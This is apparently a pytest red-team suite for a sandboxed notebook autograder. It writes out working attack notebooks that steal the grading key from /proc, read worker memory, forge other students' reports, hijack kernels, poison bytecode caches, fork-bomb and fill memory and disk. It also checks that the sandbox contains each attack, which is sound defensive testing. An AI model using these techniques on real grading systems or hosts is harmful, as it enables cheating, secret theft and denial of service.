"""Red team at the operating-system level: submissions that attack the grader, the key, the
package and each other, graded in one sandboxed batch beside two honest controls.

Every attack is a notebook written as a determined student would write it (lesson 02:
``pairwise_sq_dists`` and ``assign``), and most of them carry the same cheat: a table of the
hidden cases' answers, built with the package's own case generator once the attack has learnt a
seed (``LEARN`` below; :func:`test_the_cheat_wins_full_marks_when_it_knows_the_seed` shows that
it does win everything when it knows it). The batch runs through the ``kmeans-lessons grade``
command, with the key in a file named on its command line, exactly as an instructor runs it.

What must hold: every attacker scores no more than plainly wrong code; the controls score what
they score when graded alone; the batch finishes and writes grades.csv and the feedback files;
nothing the batch started is still running afterwards; the package (bytecode caches included)
is unchanged; nothing escaped to the network or to files outside the sandbox.

Targets are chosen so that a sandbox that failed cannot harm anything outside this test: the
attacks look for the grader by the unique folder of this test run (``TOKEN``) and for files
inside it. Without bubblewrap the tests skip with the reason; CI installs it and sets
``KMEANS_LESSONS_REQUIRE_SANDBOX=1``, which turns the skip into a failure.
"""

import csv
import hashlib
import os
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
import types
from pathlib import Path

import nbformat
import psutil
import pytest

import kmeans_lessons
from kmeans_lessons.grading.autograde import bwrap, cgroup

REQUIRED = os.environ.get("KMEANS_LESSONS_REQUIRE_SANDBOX") == "1"
EXERCISES = ("pairwise_sq_dists", "assign")
MARKER = "kmeans-lessons-redteam-os-marker"

SETUP = "import numpy as np\nfrom kmeans_lessons import check"
PAIRWISE = '''\
def pairwise_sq_dists(X, C):
    diff = np.asarray(X)[:, None, :] - np.asarray(C)[None, :, :]
    return np.einsum("nkd,nkd->nk", diff, diff)'''
ASSIGN = '''\
def assign(X, C):
    return pairwise_sq_dists(X, C).argmin(axis=1)'''
# Wrong for every input (no case has an answer of all -1): what every attacker computes.
WRONG_PAIRWISE = "def pairwise_sq_dists(X, C):\n    return -np.ones((len(X), len(C)))"
WRONG_ASSIGN = "def assign(X, C):\n    return np.full(len(X), -1)"

#: The cheat: answers to the hidden cases of a seed, looked up by the inputs' bytes; anything
#: else gets a wrong answer. ``learn(name, seed)`` fills the table.
LEARN = '''\
import hashlib
import numpy as np
from kmeans_lessons.grading.exercises import EXERCISES

ANSWERS = {}

def fingerprint(args):
    digest = hashlib.sha256()
    for a in args:
        a = np.ascontiguousarray(a)
        digest.update(str((a.shape, a.dtype.str)).encode())
        digest.update(a.tobytes())
    return digest.hexdigest()

def learn(name, seed):
    for case in EXERCISES[name].cases(int(seed), hidden=True):
        if getattr(case, "args", ()):
            ANSWERS[name, fingerprint(case.args)] = EXERCISES[name].reference(*case.args)

def pairwise_sq_dists(X, C):
    found = ANSWERS.get(("pairwise_sq_dists", fingerprint((X, C))))
    return found if found is not None else -np.ones((len(X), len(C)))

def assign(X, C):
    found = ANSWERS.get(("assign", fingerprint((X, C))))
    return found if found is not None else np.full(len(X), -1)
'''

#: Finds the grader of this batch (by the folder it was given) and everything under it.
FIND_GRADER = '''\
import os

def processes():
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as handle:
                    yield int(pid), handle.read().split(b"\\0")
            except OSError:
                pass

def parent_of(pid):
    try:
        with open(f"/proc/{pid}/stat") as handle:
            return int(handle.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return None

def grader_and_workers(token):
    table = dict(processes())
    graders = [pid for pid, argv in table.items() if any(token.encode() in a for a in argv)
               and any(b"grade" == a for a in argv)]
    workers = [pid for pid in table if parent_of(pid) in graders]
    return graders, workers, table
'''


def notebook(*cells):
    return nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(textwrap.dedent(c))
                                           for c in cells])


def attacks(root, port):
    """{name: notebook} of every attack; ``root`` is this run's folder, ``port`` a listener."""
    token = str(root)
    out, feedback = root / "grades.csv", root / "feedback"
    victim = root / "victim.txt"
    return {
        # Full marks for wrong code by reading the key: from the grader's command line, its
        # environment, or the default key file.
        "reads_key": notebook(SETUP, LEARN, FIND_GRADER, '''
            import glob
            try:
                from kmeans_lessons.grading.autograde import exercise_seed
            except ImportError:
                from kmeans_lessons.grading.autograde.batch import exercise_seed
            keys = []
            for pid, argv in processes():
                for i, arg in enumerate(argv[:-1]):
                    if arg == b"--key-file":
                        try:
                            keys.append(open(argv[i + 1], "rb").read().strip())
                        except OSError:
                            pass
                try:
                    for entry in open(f"/proc/{pid}/environ", "rb").read().split(b"\\0"):
                        if entry.startswith(b"KMEANS_LESSONS_GRADING_KEY="):
                            keys.append(entry.split(b"=", 1)[1])
                except OSError:
                    pass
            for path in glob.glob("/root/.config/kmeans-lessons/grading.key") + glob.glob(
                    "/home/*/.config/kmeans-lessons/grading.key"):
                keys.append(open(path, "rb").read().strip())
            for key in keys:
                for name in ("pairwise_sq_dists", "assign"):
                    for extra in ((), ("reads_key",)):
                        try:
                            learn(name, exercise_seed(key, name, *extra))
                        except TypeError:
                            pass
            print(len(keys), "keys found")
        '''),
        # ... by reading the job (every hidden seed) from a worker's stdin or memory.
        "reads_job": notebook(SETUP, LEARN, FIND_GRADER, f'''
            import json, re
            graders, workers, table = grader_and_workers({token!r})
            found = {{}}
            pattern = re.compile(rb'"seeds": (\\{{[^}}]*\\}})')
            for pid in workers:
                try:
                    fd = os.open(f"/proc/{{pid}}/fd/0", os.O_RDONLY | os.O_NONBLOCK)
                    for match in pattern.finditer(os.read(fd, 1 << 20)):
                        found.update(json.loads(match.group(1)))
                except OSError:
                    pass
                try:
                    mem = open(f"/proc/{{pid}}/mem", "rb")
                    for line in open(f"/proc/{{pid}}/maps"):
                        span, perms = line.split()[:2]
                        start, end = (int(x, 16) for x in span.split("-"))
                        if "rw" in perms and end - start < 64 << 20:
                            mem.seek(start)
                            for match in pattern.finditer(mem.read(end - start)):
                                try:
                                    found.update(json.loads(match.group(1)))
                                except ValueError:
                                    pass
                except (OSError, ValueError, OverflowError):
                    pass
            for name, seed in found.items():
                if name in ("pairwise_sq_dists", "assign"):
                    learn(name, seed)
            print(len(found), "seeds found")
        '''),
        # ... with no code at all: the grader seeds the kernel's generators before each exercise;
        # a patched seed function learns that seed and rebuilds the hidden cases from it.
        "spies_on_seed": notebook(SETUP, LEARN, '''
            import random

            def spy(seed=None, *args, **kwargs):
                if isinstance(seed, int):
                    for name in ("pairwise_sq_dists", "assign"):
                        for candidate in {seed, seed % 2**32}:
                            learn(name, candidate)

            np.random.seed = spy
            random.seed = spy
        '''),
        # ... with the reference's own code object (no call to the reference happens).
        "copies_code": notebook(SETUP, '''
            import importlib, inspect, types
            package = importlib.import_module("kmeans_" + "lessons")
            theirs = getattr(package, "pairwise_" + "sq_dists")
            pairwise_sq_dists = types.FunctionType(theirs.__code__, theirs.__globals__,
                                                   "pairwise_sq_dists", theirs.__defaults__)
            other = getattr(package, "as" + "sign")
            namespace = dict(other.__globals__)
            exec(compile(inspect.getsource(other), "<my own work>", "exec"), namespace)
            assign = namespace[other.__name__]
        '''),
        # Other students' rows changed: fake reports into every worker's report pipe.
        "forges_reports": notebook(SETUP, WRONG_PAIRWISE, WRONG_ASSIGN, FIND_GRADER, f'''
            import json, threading, time

            def forge():
                for _ in range(400):
                    graders, workers, table = grader_and_workers({token!r})
                    for pid in workers:
                        mine = pid == os.getppid()
                        lines = [json.dumps({{"event": "exercise", "name": name,
                                             "score": 1 if mine else 0, "max_score": 1,
                                             "passed": mine, "pending": False,
                                             "feedback": [], "note": ""}})
                                 for name in ("pairwise_sq_dists", "assign")]
                        lines.append(json.dumps({{"event": "done"}}))
                        for fd in os.listdir(f"/proc/{{pid}}/fd"):
                            try:
                                if os.readlink(f"/proc/{{pid}}/fd/{{fd}}").startswith("pipe:"):
                                    with open(f"/proc/{{pid}}/fd/{{fd}}", "w") as pipe:
                                        pipe.write("\\n".join(lines) + "\\n")
                            except OSError:
                                pass
                    time.sleep(0.1)

            threading.Thread(target=forge, daemon=True).start()
        '''),
        # ... by driving the other kernels of this batch through their connection files.
        "drives_kernels": notebook(SETUP, WRONG_PAIRWISE, WRONG_ASSIGN, FIND_GRADER, f'''
            import threading, time
            from jupyter_client import BlockingKernelClient

            SABOTAGE = "def pairwise_sq_dists(X, C):\\n    return X[:, :1] * 0 - 1\\n"

            def connection_files():
                graders, workers, table = grader_and_workers({token!r})
                for pid, argv in table.items():
                    if parent_of(pid) in workers and b"-f" in argv:
                        yield argv[argv.index(b"-f") + 1].decode()

            def drive():
                done = set()
                for _ in range(300):
                    for path in connection_files():
                        if path in done or os.getcwd().split("/work")[0] in path:
                            continue
                        try:
                            client = BlockingKernelClient(connection_file=path)
                            client.load_connection_file()
                            client.start_channels()
                            client.execute(SABOTAGE)
                            done.add(path)
                        except Exception:
                            pass
                    time.sleep(0.1)

            threading.Thread(target=drive, daemon=True).start()
        '''),
        # ... and the batch stalled or lost: stop the grader, kill every worker.
        "kills_everyone": notebook(SETUP, WRONG_PAIRWISE, WRONG_ASSIGN, FIND_GRADER, f'''
            import signal, threading, time

            def attack():
                for _ in range(200):
                    graders, workers, table = grader_and_workers({token!r})
                    for pid in workers:
                        if pid != os.getppid():
                            try:
                                os.kill(pid, signal.SIGKILL)
                            except OSError:
                                pass
                    for pid in graders:
                        for signum in (signal.SIGSTOP, signal.SIGTERM):
                            try:
                                os.kill(pid, signum)
                            except OSError:
                                pass
                    time.sleep(0.1)

            threading.Thread(target=attack, daemon=True).start()
        '''),
        # ... a directory at another student's feedback path, links at the others and at the
        # output: the batch used to end with no grades.csv.
        "plants_paths": notebook(SETUP, WRONG_PAIRWISE, WRONG_ASSIGN, f'''
            import os
            feedback, out, victim = {str(feedback)!r}, {str(out)!r}, {str(victim)!r}
            try:
                os.makedirs(os.path.join(feedback, "control_a.txt"), exist_ok=True)
                os.symlink(victim, os.path.join(feedback, "control_b.txt"))
                os.symlink(victim, out)
            except OSError as error:
                print("could not plant:", error)
        '''),
        # ... a daemon that outlives the batch and rewrites grades.csv.
        "daemon": notebook(SETUP, WRONG_PAIRWISE, WRONG_ASSIGN, f'''
            import os, subprocess, sys
            code = """
            import os, time
            for _ in range(600):
                try:
                    with open({str(out)!r}, "a") as handle:
                        handle.write("daemon,4,4,8,graded,\\\\n")
                except OSError:
                    pass
                time.sleep(0.1)
            """
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    os.execv(sys.executable, [sys.executable, "-c",
                             __import__("textwrap").dedent(code), {MARKER!r}])
                os._exit(0)
        '''),
        # Later submissions poisoned: a .pyc with the source's mtime and size in the package's
        # __pycache__ makes every later worker compute "expected" answers of zeros.
        "poisons_bytecode": notebook(SETUP, '''
            import importlib.util, marshal, os
            import kmeans_lessons.distances as target

            source = target.__file__
            stat = os.stat(source)
            poison = ("import numpy as np\\n"
                      "def pairwise_sq_dists(X, C):\\n    return -np.ones((len(X), len(C)))\\n"
                      "def assign(X, C):\\n    return np.full(len(X), -1)\\n")
            code = compile(poison, source, "exec")
            header = (importlib.util.MAGIC_NUMBER + (0).to_bytes(4, "little")
                      + int(stat.st_mtime).to_bytes(4, "little")
                      + (stat.st_size & 0xFFFFFFFF).to_bytes(4, "little"))
            try:
                cache = importlib.util.cache_from_source(source)
                os.makedirs(os.path.dirname(cache), exist_ok=True)
                with open(cache, "wb") as handle:
                    handle.write(header + marshal.dumps(code))
                print("poisoned", cache)
            except OSError as error:
                print("could not poison:", error)
        ''', WRONG_PAIRWISE, WRONG_ASSIGN),
        # Limits escaped: the network ...
        "uses_network": notebook(SETUP, WRONG_PAIRWISE, WRONG_ASSIGN, f'''
            import socket
            for host in ("127.0.0.1", socket.gethostname()):
                try:
                    with socket.create_connection((host, {port}), timeout=2) as connection:
                        connection.sendall(b"escaped")
                except OSError as error:
                    print(host, error)
        '''),
        # ... shared memory beyond the memory cap (RLIMIT_AS does not count it) ...
        "hoards_shared_memory": notebook(SETUP, WRONG_PAIRWISE, WRONG_ASSIGN, '''
            import os
            hoard = []
            for _ in range(48):  # 3 GB in 64 MB memory files (each under the file-size cap)
                fd = os.memfd_create("hoard")
                os.write(fd, bytes(64 << 20))
                hoard.append(fd)
            print("holding", len(hoard) * 64, "MB")
        '''),
        # ... no limit on processes ...
        "fork_bomb": notebook(SETUP, WRONG_PAIRWISE, WRONG_ASSIGN, f'''
            import os, sys, time
            children = 0
            try:
                for _ in range(3000):
                    if os.fork() == 0:
                        os.execv(sys.executable, [sys.executable, "-c",
                                 "import time; time.sleep(600)", {MARKER!r}])
                    children += 1
            except OSError as error:
                print(children, "children, then", error)
        '''),
        # ... no fair share of the processors (a hundred busy processes against one) ...
        "burns_cpu": notebook(SETUP, WRONG_PAIRWISE, WRONG_ASSIGN, f'''
            import os, sys
            for _ in range(100):
                if os.fork() == 0:
                    os.execv(sys.executable, [sys.executable, "-c", "while True: pass",
                                              {MARKER!r}])
        '''),
        # ... and files written outside the private folder stay after the batch.
        "writes_outside": notebook(SETUP, WRONG_PAIRWISE, WRONG_ASSIGN, f'''
            import os, tempfile
            for path in ({str(root / "escaped.txt")!r},
                         os.path.join(tempfile.gettempdir(), "{MARKER}-escaped.txt")):
                try:
                    with open(path, "w") as handle:
                        handle.write("escaped")
                except OSError as error:
                    print(path, error)
        '''),
        # Beyond the issue: filling the disk through the one folder it may write to ...
        "fills_its_folder": notebook(SETUP, WRONG_PAIRWISE, WRONG_ASSIGN, '''
            written = 0
            try:
                for number in range(48):  # 3 GB in files under the file-size cap
                    with open(f"fill-{number}.bin", "wb") as handle:
                        handle.write(bytes(64 << 20))
                    written += 64
            except OSError as error:
                print(written, "MB, then", error)
        '''),
        # ... links planted where the grader writes the next call's inputs, so
        # that the grader (not the kernel) overwrites a file of the attacker's choosing ...
        "plants_exchange_links": notebook(SETUP, PAIRWISE, f'''
            import glob, os
            here = os.getcwd()
            for folder in glob.glob(os.path.join(os.path.dirname(here), "*")):
                for number in range(1, 200):
                    for name in (f"call-{{number}}.npz", f"call-{{number}}.json.tmp",
                                 f"call-{{number}}.json", "defined.npz", "defined.json.tmp"):
                        try:
                            os.symlink({str(victim)!r}, os.path.join(folder, name))
                        except OSError:
                            pass
        ''', WRONG_ASSIGN),
        # ... and copying another student's answers out of their notebook.
        "copies_neighbour": notebook(SETUP, WRONG_ASSIGN, '''
            import json, os
            stolen = None
            for top in ("/tmp", "/work", "/root", "/home", os.path.dirname(os.getcwd())):
                for folder, _, files in os.walk(top):
                    for name in files:
                        if name.endswith(".ipynb") and "control" in name:
                            try:
                                cells = json.load(open(os.path.join(folder, name)))["cells"]
                            except (OSError, ValueError, KeyError):
                                continue
                            stolen = "\\n\\n".join("".join(c["source"]) for c in cells
                                                   if c["cell_type"] == "code")
                    if stolen:
                        break
                if stolen:
                    exec(stolen)
                    break
            print("stole" if stolen else "found nothing")
        '''),
    }


def controls():
    """Two honest students: one right everywhere, one right on pairwise_sq_dists only."""
    return {
        "control_a": notebook(SETUP, PAIRWISE, "check(pairwise_sq_dists)", ASSIGN, "check(assign)"),
        "control_b": notebook(SETUP, PAIRWISE, "check(pairwise_sq_dists)", WRONG_ASSIGN),
    }


def plainly_wrong():
    return notebook(SETUP, WRONG_PAIRWISE, WRONG_ASSIGN)


def package_state():
    """SHA-256 of every file of the package, bytecode caches included."""
    folder = Path(kmeans_lessons.__file__).parent
    return {str(path.relative_to(folder)): hashlib.sha256(path.read_bytes()).hexdigest()
            for path in sorted(folder.rglob("*")) if path.is_file()}


def run_cli(submissions, out, feedback, key_file, timeout=300, extra=()):
    command = [sys.executable, "-c", "import sys; from kmeans_lessons.cli import main; "
               "sys.exit(main())", "grade", *map(str, submissions), "--out", str(out),
               "--feedback", str(feedback), "--key-file", str(key_file), "--timeout", "8",
               "--max-time", "90", "--jobs", "2", "--memory", "1024", "--lesson", "02_distances",
               "--no-progress", *extra]
    env = {k: v for k, v in os.environ.items() if not k.startswith("KMEANS_LESSONS_GRADING")}
    return subprocess.run(command, capture_output=True, text=True, timeout=timeout, env=env)


def read_rows(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return {row["student"]: row for row in csv.DictReader(handle)}


def ours(marker=MARKER):
    found = []
    for process in psutil.process_iter(["cmdline"]):
        if marker in " ".join(process.info["cmdline"] or []):
            found.append(process)
    return found


class Listener(threading.Thread):
    """A TCP server on the host's loopback that records whatever reaches it."""

    def __init__(self):
        super().__init__(daemon=True)
        self.server = socket.create_server(("0.0.0.0", 0))
        self.server.settimeout(0.2)
        self.port, self.received, self.stopped = self.server.getsockname()[1], [], False

    def run(self):
        while not self.stopped:
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            with connection:
                self.received.append(connection.recv(100))

    def stop(self):
        self.stopped = True
        self.join()
        self.server.close()


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    try:
        bwrap.check_sandbox()
    except bwrap.SandboxUnavailable as error:
        if REQUIRED:
            pytest.fail(f"KMEANS_LESSONS_REQUIRE_SANDBOX=1 but {error}")
        pytest.skip(str(error))
    root = tmp_path_factory.mktemp("redteam-os")
    key_file = root / "grading.key"
    key_file.write_text("the instructor's secret\n")
    key_file.chmod(0o600)
    victim = root / "victim.txt"
    victim.write_text("untouched\n")
    outside = Path(tempfile.gettempdir(), f"{MARKER}-escaped.txt")
    outside.unlink(missing_ok=True)  # left by an earlier run, say one with --no-sandbox
    listener = Listener()
    listener.start()

    # The controls and a plainly wrong notebook, graded alone first.
    alone = root / "alone"
    alone.mkdir()
    for name, nb in {**controls(), "wrong": plainly_wrong()}.items():
        nbformat.write(nb, alone / f"{name}.ipynb")
    result = run_cli([alone], root / "alone.csv", root / "alone-feedback", key_file)
    assert result.returncode == 0, result.stderr
    alone_rows = read_rows(root / "alone.csv")
    # After a first batch: it brought the package's bytecode caches up to date.
    before = package_state()

    submissions = root / "submissions"
    submissions.mkdir()
    subs = {**attacks(root, listener.port), **controls(), "wrong": plainly_wrong()}
    for name, nb in subs.items():
        nbformat.write(nb, submissions / f"{name}.ipynb")
    started = time.monotonic()
    result = run_cli([submissions], root / "grades.csv", root / "feedback", key_file)
    elapsed = time.monotonic() - started
    time.sleep(2)  # a surviving daemon would have rewritten grades.csv by now
    after = package_state()
    listener.stop()
    leftovers = ours()
    for process in leftovers:  # never leave anything behind, even when the test fails
        process.kill()
    return types.SimpleNamespace(
        result=result, elapsed=elapsed, root=root, alone=alone_rows, names=sorted(subs),
        attackers=sorted(set(subs) - {"control_a", "control_b", "wrong"}),
        rows=read_rows(root / "grades.csv") if (root / "grades.csv").is_file() else {},
        before=before, after=after, received=listener.received, leftovers=leftovers,
        victim=victim)


def total(row):
    return float(row["total"])


def test_the_batch_finishes_and_writes_every_row(batch):
    assert batch.result.returncode == 0, batch.result.stderr[-2000:]
    assert sorted(batch.rows) == batch.names
    feedback = batch.root / "feedback"
    assert sorted(p.stem for p in feedback.glob("*.txt")) == batch.names
    assert all(p.is_file() and not p.is_symlink() for p in feedback.iterdir())


def test_the_controls_score_as_when_graded_alone(batch):
    for name in ("control_a", "control_b", "wrong"):
        row, alone = batch.rows[name], batch.alone[name]
        assert (row["status"], row["total"]) == (alone["status"], alone["total"]), name
        assert row[EXERCISES[0]] == alone[EXERCISES[0]] and row[EXERCISES[1]] == alone[EXERCISES[1]]
    assert total(batch.alone["control_a"]) > total(batch.alone["control_b"]) > 0


@pytest.mark.parametrize("attacker", [
    "reads_key", "reads_job", "spies_on_seed", "copies_code", "forges_reports",
    "drives_kernels", "kills_everyone", "plants_paths", "daemon", "poisons_bytecode",
    "uses_network", "hoards_shared_memory", "fork_bomb", "burns_cpu", "writes_outside",
    "fills_its_folder", "plants_exchange_links", "copies_neighbour"])
def test_an_attacker_scores_no_more_than_plainly_wrong_code(batch, attacker):
    # plants_exchange_links needs a right pairwise_sq_dists (the grader sends large inputs
    # through files only to functions that pass the other cases): it may earn what control_b
    # earns with the same code, and no more.
    honest = "control_b" if attacker == "plants_exchange_links" else "wrong"
    assert total(batch.rows[attacker]) <= total(batch.rows[honest]), batch.rows[attacker]


def test_the_code_copy_is_named_in_the_message(batch):
    assert "reference" in batch.rows["copies_code"]["message"]


@pytest.mark.parametrize("attacker", ["hoards_shared_memory", "fills_its_folder"])
def test_memory_held_outside_the_address_space_is_capped(batch, attacker):
    if not cgroup.open_cgroups()[0]:
        pytest.skip("no cgroup here: only the per-process caps apply")
    row = batch.rows[attacker]
    assert row["status"] == "crashed" and "more memory than allowed" in row["message"], row


def test_nothing_the_batch_started_is_left_running(batch):
    assert batch.leftovers == []
    groups = [path for base in ("/sys/fs/cgroup/pids", "/sys/fs/cgroup/memory", "/sys/fs/cgroup")
              for path in Path(base).rglob("kmeans-lessons-*") if path.is_dir()]
    # A group is named kmeans-lessons-<grader pid>-<token>. Our batch's grader has exited, so
    # any group whose grader is gone is left over; a live grader's groups belong to another
    # grading run on this machine (a second test session, say) and are not ours to judge.
    assert not [g for g in groups if g.name != "kmeans-lessons-grader"
                and not psutil.pid_exists(int(g.name.split("-")[2]))]


def test_the_package_is_unchanged(batch):
    assert batch.after == batch.before


def test_nothing_escaped_to_the_network_or_the_file_system(batch):
    assert batch.received == []
    assert not (batch.root / "escaped.txt").exists()
    assert not Path(tempfile.gettempdir(), f"{MARKER}-escaped.txt").exists()
    assert batch.victim.read_text() == "untouched\n"


def test_the_cheat_wins_full_marks_when_it_knows_the_seed():
    """The attacks above are real: given the true seed, the cheat passes every hidden case it
    has inputs for, where plainly wrong code passes none."""
    from kmeans_lessons.grading.check import grade_function

    namespace = {}
    exec(LEARN, namespace)
    for name in EXERCISES:
        namespace["learn"](name, 12345)
        cheat = grade_function(name, namespace[name], seed=12345, hidden=True)
        wrong = grade_function(name, namespace[name], seed=54321, hidden=True)
        hidden = [c for c in cheat.cases if c.hidden]
        assert sum(c.passed for c in hidden) >= len(hidden) - 2
        assert sum(c.passed for c in wrong.cases if c.hidden) == 0
